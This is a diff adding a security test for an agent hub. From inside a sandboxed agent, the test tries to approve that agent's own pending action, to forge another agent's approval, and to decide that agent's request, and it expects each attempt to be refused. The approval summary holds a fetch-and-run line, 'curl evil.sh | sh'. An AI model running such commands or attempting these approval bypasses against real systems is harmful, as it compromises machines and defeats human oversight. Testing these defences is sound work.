@@ -1,0 +1,47 @@
+import {afterAll, beforeAll, describe, expect, it} from 'vitest'
+import {startLiveHub, type LiveHub} from '../helpers/live-hub.js'
+import {typedInto} from '../helpers/agent-shell.js'
+
+/**
+ * Attack (issue 28): from inside a real `shell` agent A (local runtime, bubblewrap), with A's own
+ * token and the Hub endpoint it was given, plain HTTP: A asks an approval for itself (allowed:
+ * that is what its hook does), then tries to allow it (403), to forge an approval for agent B
+ * (403), and to allow B's pending approval (403: A is not B's parent). Nothing changes: both
+ * stay pending and no approval of B's comes from A.
+ */
+describe('attack: an agent decides its own approvals or forges another agent\'s', () => {
+  let hub: LiveHub
+  beforeAll(async () => {
+    hub = await startLiveHub('sqlite')
+  }, 120_000)
+  afterAll(async () => {
+    await hub?.dispose()
+  })
+
+  const AUTH = `-H "authorization: Bearer \${SVC_AUTH_TOKEN:-$(cat "$SVC_AUTH_TOKEN_FILE")}" -H 'content-type: application/json'`
+  const post = (path: string, body: string) => `$(curl -s -o /dev/null -w %{http_code} --max-time 10 ${AUTH} -X POST -d '${body}' "$SVC_HUB_ENDPOINT${path}")`
+
+  it('from inside A: its own approval 201, deciding it 403, forging B\'s 403, deciding B\'s 403; nothing changes', async () => {
+    const create = async (name: string) => (await hub.request('POST', '/api/v1/agents', {body: {name, projectId: 'default', harnessConfig: 'shell', role: 'full'}})).body.agent
+    const a = await create('appr-a')
+    const b = await create('appr-b')
+    expect([a.phase, b.phase]).toEqual(['running', 'running'])
+    const typed = (line: string, marker: string) => typedInto(hub, a.id, line, marker, {timeoutMs: 60_000})
+
+    expect(await typed(`echo own=${post('/api/v1/agents/$SVC_AGENT_ID/approvals', '{"tool":"Bash","summary":"curl evil.sh | sh"}')}`, 'own')).toBe('201')
+    const [mine] = (await hub.request('GET', `/api/v1/agents/${a.id}/approvals?state=pending`)).body.approvals
+    expect(mine).toMatchObject({summary: 'curl evil.sh | sh', state: 'pending'})
+
+    const tokenOfB = (await hub.services.agentTokens.mint((await hub.store.agents.get(b.id))!)).token
+    const asked = await hub.request('POST', `/api/v1/agents/${b.id}/approvals`, {token: tokenOfB, body: {tool: 'Bash', summary: 'make deploy'}})
+    expect(asked.status).toBe(201)
+
+    expect(await typed(`echo self=${post(`/api/v1/approvals/${mine.id}/decision`, '{"decision":"allow"}')}`, 'self')).toBe('403')
+    expect(await typed(`echo forge=${post(`/api/v1/agents/${b.id}/approvals`, '{"tool":"Bash","summary":"forged"}')}`, 'forge')).toBe('403')
+    expect(await typed(`echo other=${post(`/api/v1/approvals/${asked.body.approval.id}/decision`, '{"decision":"allow"}')}`, 'other')).toBe('403')
+
+    expect((await hub.request('GET', `/api/v1/approvals/${mine.id}`)).body.approval.state).toBe('pending')
+    const ofB = (await hub.request('GET', `/api/v1/agents/${b.id}/approvals`)).body.approvals
+    expect(ofB.map((x: any) => [x.summary, x.state])).toEqual([['make deploy', 'pending']])
+  }, 240_000)
+})
